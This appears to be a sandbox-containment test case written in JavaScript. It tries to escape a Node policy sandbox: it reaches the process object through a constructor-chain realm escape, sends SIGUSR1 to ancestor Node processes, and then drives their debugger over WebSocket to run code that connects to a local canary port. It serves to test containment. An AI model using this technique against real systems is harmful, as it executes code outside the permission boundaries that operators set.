/*---
id: ancestor-sigusr1-inspector
title: SIGUSR1 to an ancestor Node process, then drive its inspector
category: ipc
goal: Run code outside every policy by opening the debugger of a Node process above the host (a launcher, npm, the supervisor) — a process of the same user with the user's whole environment.
technique: Walk /proc (every pid it can see, and the PPid chain up from /proc/self/status); send SIGUSR1 to each ancestor whose command line names node and that catches SIGUSR1 (SigCgt), except the guest and its host; then GET 127.0.0.1:9229/json/list and, if a signalled ancestor answers, ask it over the WebSocket to connect to CANARY_PORT. Escaped means an ancestor's inspector ran that code; the workbench's containment (a PID namespace per host) leaves no ancestor visible. Where the Permission Model hides /proc the probe cannot tell an ancestor from any other process and signals nothing: a blind scan would kill every process that does not handle SIGUSR1.
references: https://nodejs.org/api/debugger.html#advanced-usage, https://nodejs.org/api/cli.html#--disable-sigusr1, https://man7.org/linux/man-pages/man7/pid_namespaces.7.html
limits: timeout=5000
expect: * = contained
---*/
// Safety when run uncontained (an old workbench, a plain `node` on a desktop): only ancestors of this very
// process are signalled, never the rest of /proc, and only an inspector whose target names one of them is
// driven — a debugger someone else opened on 9229 is listed, never used.
const P =
  typeof process !== 'undefined'
    ? process
    : (() => {
        try {
          return this.constructor.constructor('return process')();
        } catch {
          return undefined;
        }
      })();
const G = (() => {
  try {
    return this.constructor.constructor('return globalThis')(); // the realm that has WebSocket under node:vm
  } catch {
    return globalThis;
  }
})();
const report = { visible: 0, nodes: [], ancestors: [], signalled: [], inspector: 'not tried' };

function probe() {
  const fs = P.getBuiltinModule('node:fs');
  const timers = P.getBuiltinModule('node:timers');
  const http = P.getBuiltinModule('node:http');
  const read = (path) => {
    try {
      return fs.readFileSync(path, 'latin1');
    } catch {
      return undefined;
    }
  };
  const cmdline = (pid) => (read(`/proc/${pid}/cmdline`) ?? '').split('\0').join(' ').trim();
  // Head and tail of a long command line: the program and the script it runs.
  const short = (cmd) => (cmd.length > 120 ? `${cmd.slice(0, 50)} … ${cmd.slice(-60)}` : cmd);
  const ppid = (pid) => Number(/^PPid:\s*(\d+)/m.exec(read(`/proc/${pid}/status`) ?? '')?.[1] ?? 0);
  // node itself, or npm/npx, which retitle their process (`npm run web`) but are Node all the same.
  const isNode = (cmd) => /(^|\/)(node|nodejs|npm|npx)[-\d.]*$/.test(cmd.split(' ')[0] ?? '');
  // The host: this process under host/worker, else the nearest Node process above a child guest.
  const isHost = (cmd) => /workers[/\\]host[/\\]main|--type=utility/.test(cmd);
  // SIGUSR1's default action ends a process: only one that catches it (SigCgt bit 10, Node's inspector
  // handler) is signalled. A Node started with --disable-sigusr1 does not, and would die of it.
  const catchesUsr1 = (pid) => {
    const mask = /^SigCgt:\s*([0-9a-f]+)/im.exec(read(`/proc/${pid}/status`) ?? '')?.[1];
    return mask !== undefined && (parseInt(mask.slice(-8), 16) & (1 << 9)) !== 0;
  };

  let pids = [];
  try {
    pids = fs.readdirSync('/proc').filter((d) => /^\d+$/.test(d));
  } catch (e) {
    return `cannot list /proc (${e.code}): no ancestor known, nothing signalled`;
  }
  report.visible = pids.length;
  for (const pid of pids) {
    const cmd = cmdline(pid);
    if (isNode(cmd) && report.nodes.length < 40) report.nodes.push(`${pid}: ${short(cmd)}`);
  }
  const self = P.pid;
  for (let pid = ppid('self'), n = 0; pid > 0 && n < 32; pid = ppid(pid), n++) {
    const cmd = cmdline(pid);
    report.ancestors.push(`${pid}: ${short(cmd) || '(unreadable)'}`);
    if (pid === self || !isNode(cmd) || isHost(cmd)) continue;
    if (!catchesUsr1(pid)) {
      report.ancestors.push(`  ${pid} does not catch SIGUSR1 (--disable-sigusr1?): left alone, it would die`);
      continue;
    }
    try {
      P.kill(pid, 'SIGUSR1');
      report.signalled.push({ pid, cmd });
    } catch (e) {
      report.ancestors.push(`  SIGUSR1 to ${pid}: ${e.code}`);
    }
  }

  const getJson = (path) =>
    new Promise((resolve) => {
      const req = http.get({ host: '127.0.0.1', port: 9229, path, timeout: 600, agent: false }, (res) => {
        let body = '';
        res.setEncoding('utf8');
        res.on('data', (d) => (body = (body + d).slice(0, 65536)));
        res.on('end', () => {
          try {
            resolve(JSON.parse(body));
          } catch {
            resolve(`not JSON: ${body.slice(0, 80)}`);
          }
        });
      });
      req.on('timeout', () => req.destroy(new Error('timeout')));
      req.on('error', (e) => resolve(`${e.code || e.message}`));
    });
  const drive = (target) =>
    new Promise((resolve) => {
      const WS = G.WebSocket ?? globalThis.WebSocket;
      if (typeof WS !== 'function') return resolve('no WebSocket in this realm');
      const ws = new WS(target.webSocketDebuggerUrl);
      const give = timers.setTimeout(() => (ws.close(), resolve('inspector: no answer to evaluate')), 1500);
      const expression = `(() => { const s = process.getBuiltinModule('node:net').connect(${CANARY_PORT}, '127.0.0.1'); s.on('error', () => {}); s.on('connect', () => s.destroy()); return 'pid ' + process.pid; })()`;
      ws.onopen = () => ws.send(JSON.stringify({ id: 1, method: 'Runtime.evaluate', params: { expression } }));
      ws.onmessage = (m) => {
        const msg = JSON.parse(String(m.data));
        if (msg.id !== 1) return;
        timers.clearTimeout(give);
        ws.close();
        resolve(
          `inspector ran code in the ancestor: ${msg.result?.result?.value ?? JSON.stringify(msg).slice(0, 120)}`,
        );
      };
      ws.onerror = () => (timers.clearTimeout(give), resolve('inspector: WebSocket error'));
    });

  // Node opens the inspector asynchronously after the signal.
  return new Promise((r) => timers.setTimeout(r, report.signalled.length > 0 ? 400 : 0))
    .then(() => getJson('/json/list'))
    .then((list) => {
      if (!Array.isArray(list)) return `9229: ${list}`;
      const mine = list.find((t) =>
        report.signalled.some((s) => typeof t.title === 'string' && t.title && s.cmd.includes(t.title)),
      );
      if (!mine) return `9229 answered with ${list.length} target(s), none of them a signalled ancestor: left alone`;
      return drive(mine);
    });
}

P
  ? Promise.resolve()
      .then(probe)
      .then((inspector) => {
        if (inspector !== undefined) report.inspector = inspector;
        report.signalled = report.signalled.map((s) => s.pid);
        console.log(JSON.stringify(report, null, 1));
        return report.inspector;
      })
  : (console.log('no process object'), 'no process object');
